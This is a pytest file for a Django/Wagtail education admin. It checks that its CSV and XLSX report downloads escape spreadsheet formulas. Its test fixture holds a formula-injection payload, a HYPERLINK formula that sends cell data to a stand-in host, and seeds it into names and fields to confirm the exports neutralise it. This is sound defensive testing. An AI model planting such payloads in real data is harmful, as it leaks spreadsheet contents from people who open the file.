"""Every CSV and XLSX download of the admin writes text that a spreadsheet would read as a formula
as plain text: in CSV behind a leading apostrophe, in XLSX as a string cell."""

import csv
import io
from datetime import timedelta

from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone

from wagtail.admin.views.mixins import SpreadsheetExportMixin

import pytest
from openpyxl import load_workbook

from courses.choices import AttendanceStatus, EnrollmentStatus, SessionStatus
from courses.exports import FORMULA_STARTS, FormulaSafeExportMixin, neutralise_formula
from tests.factories import (
    AttendanceFactory,
    CertificateFactory,
    DivisionFactory,
    EnrollmentFactory,
    LocalFactory,
    ParticipantFactory,
    ProgramFactory,
    SectorFactory,
    SessionFactory,
    SessionRequestFactory,
    WorkshopPageFactory,
    make_facilitator_user,
)


@pytest.fixture(autouse=True)
def every_session_on_record(settings):
    """The reports here are read over every session on record, not only the current program
    year they open on (see ``test_reports_program_year.py``)."""
    settings.EDUCATION_PROGRAM_YEAR_START = None


#: What someone might type as a name to run a formula on the computer of whoever opens the file.
FORMULA = '=HYPERLINK("http://example.com/?leak="&A1,"Open")'


def download(response):
    content = getattr(response, "streaming_content", None)
    return b"".join(content) if content is not None else response.content


def read_csv(response):
    return list(csv.reader(io.StringIO(download(response).decode("utf-8"))))


def read_xlsx_cells(response):
    sheet = load_workbook(io.BytesIO(download(response))).active
    return [list(row) for row in sheet.iter_rows()]


def csv_cells(response):
    return [cell for row in read_csv(response)[1:] for cell in row]


def xlsx_cells(response):
    return [cell for row in read_xlsx_cells(response)[1:] for cell in row]


@pytest.fixture
def formulas(catalogue):
    """Names of every kind that the downloads show, each a formula.

    A delivered session of a workshop (in a program) facilitated by someone whose name is a
    formula, attended by a member of a local whose division, sector and name are formulas; a
    certificate for that member; and a request from a local whose contact name is a formula.
    """
    division = DivisionFactory(name=FORMULA, code="XX")
    sector = SectorFactory(name="+" + FORMULA)
    local = LocalFactory(number="777", name="-" + FORMULA, division=division, sector=sector)
    program = ProgramFactory(title="@" + FORMULA, slug="formula-program")
    workshop = WorkshopPageFactory(
        parent=catalogue, title=FORMULA, slug="formula-workshop", program=program
    )
    planning = WorkshopPageFactory(
        parent=catalogue, title="\t" + FORMULA, slug="formula-planning", offered_on_request=True
    )
    facilitator = make_facilitator_user(
        username="formula", first_name=FORMULA, last_name="", email="formula@example.org"
    )
    session = SessionFactory(
        workshop=workshop,
        start=timezone.now() - timedelta(days=10),
        status=SessionStatus.DELIVERED,
        facilitators=[facilitator],
    )
    enrollment = EnrollmentFactory(
        session=session,
        participant=ParticipantFactory(name=FORMULA, local=local),
        status=EnrollmentStatus.CONFIRMED,
        completed=True,
    )
    AttendanceFactory(enrollment=enrollment, status=AttendanceStatus.PRESENT, hours_attended=6)
    CertificateFactory(enrollment=enrollment, holder_name=FORMULA)
    SessionRequestFactory(
        workshop=planning,
        local=local,
        contact_name=FORMULA,
        contact_role="\r" + FORMULA,
        phone="+1 416-555-0199",
    )
    return {"workshop": workshop, "facilitator": facilitator, "local": local}


EXPORTS = [
    ("/admin/education-reports/sessions/", [FORMULA]),
    ("/admin/education-reports/completions/", [FORMULA, "+" + FORMULA, "-" + FORMULA]),
    ("/admin/education-reports/facilitators/", [FORMULA]),
    ("/admin/education-reports/demand/", [FORMULA, "@" + FORMULA, "\t" + FORMULA]),
    ("requests", [FORMULA, "\r" + FORMULA, "+1 416-555-0199", "\t" + FORMULA]),
]


def export_url(name):
    if name == "requests":
        return reverse("wagtailsnippets_courses_sessionrequest:list")
    return name


@pytest.mark.django_db
@pytest.mark.parametrize(("name", "texts"), EXPORTS)
def test_a_formula_in_a_name_is_text_in_the_csv(client, staff, formulas, name, texts):
    client.force_login(staff)

    response = client.get(export_url(name), {"export": "csv"})

    assert response.status_code == 200
    cells = csv_cells(response)
    for text in texts:
        assert "'" + text in cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]


@pytest.mark.django_db
@pytest.mark.parametrize(("name", "texts"), EXPORTS)
def test_a_formula_in_a_name_is_a_string_cell_in_the_xlsx(client, staff, formulas, name, texts):
    client.force_login(staff)

    response = client.get(export_url(name), {"export": "xlsx"})

    assert response.status_code == 200
    cells = xlsx_cells(response)
    values = [cell.value for cell in cells]
    for text in texts:
        # XML reads a carriage return back as a line feed.
        assert text.replace("\r", "\n") in values
    assert not [cell for cell in cells if cell.data_type == "f"]
    for cell in cells:
        if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
            assert cell.data_type == "s"
            assert cell.quotePrefix


@pytest.mark.django_db
def test_the_facilitator_activity_csv_keeps_a_formula_name_as_text(client, staff, formulas):
    client.force_login(staff)

    lines = read_csv(client.get("/admin/education-reports/facilitators/", {"export": "csv"}))

    assert lines[1][:2] == ["'" + FORMULA, "formula@example.org"]


@pytest.mark.django_db
@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_the_certificates_report_downloads_through_the_same_mechanism(
    client, staff, formulas, export_format
):
    client.force_login(staff)

    response = client.get("/admin/certificate-reports/", {"export": export_format})

    assert response.status_code == 200
    if export_format == "csv":
        lines = read_csv(response)
        assert lines[0][0] == "Month"
        assert len(lines) == 2
    else:
        assert len(read_xlsx_cells(response)) == 2


@pytest.mark.django_db
@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_numbers_stay_numbers(client, staff, formulas, export_format):
    """Only text is escaped: counts (and a negative number, were there one) are written as is."""
    client.force_login(staff)

    response = client.get("/admin/education-reports/facilitators/", {"export": export_format})

    if export_format == "csv":
        assert read_csv(response)[1][2:] == ["1", "0", "1", "6"]
    else:
        assert [cell.value for cell in read_xlsx_cells(response)[1][2:]] == [1, 0, 1, 6]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1 416-555-0199", "'+1 416-555-0199"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Ana = Lima", "Ana = Lima"),
        ("", ""),
        (-2, -2),
        (None, None),
    ],
)
def test_neutralise_formula(value, written):
    assert neutralise_formula(value) == written


def export_views(resolver=None):
    """Every view of the site that can write a spreadsheet: ``(pattern, view class, columns,
    model)``."""
    resolver = resolver or get_resolver()
    for pattern in resolver.url_patterns:
        if isinstance(pattern, URLResolver):
            yield from export_views(pattern)
        elif isinstance(pattern, URLPattern):
            view_class = getattr(pattern.callback, "view_class", None)
            if view_class is not None and issubclass(view_class, SpreadsheetExportMixin):
                initkwargs = getattr(pattern.callback, "view_initkwargs", {})
                columns = initkwargs.get("list_export") or view_class.list_export
                model = initkwargs.get("model") or getattr(view_class, "model", None)
                yield pattern, view_class, columns, model


EDUCATION_APPS = {"courses", "certificates", "facilitators"}


def is_ours(view_class, model):
    return view_class.__module__.split(".")[0] in EDUCATION_APPS or (
        model is not None and model._meta.app_label in EDUCATION_APPS
    )


@pytest.mark.django_db
def test_every_download_of_the_education_apps_escapes_formulas():
    """A new report or listing with downloads cannot forget it: the views of the education apps
    that write spreadsheets (any with columns to export) all go through the shared mechanism."""
    ours = [
        (str(pattern.pattern), view_class)
        for pattern, view_class, columns, model in export_views()
        if columns and is_ours(view_class, model)
    ]

    assert len(ours) >= 6  # the five reports and the requests, with their results views
    assert [
        (pattern, view_class.__name__)
        for pattern, view_class in ours
        if not issubclass(view_class, FormulaSafeExportMixin)
    ] == []
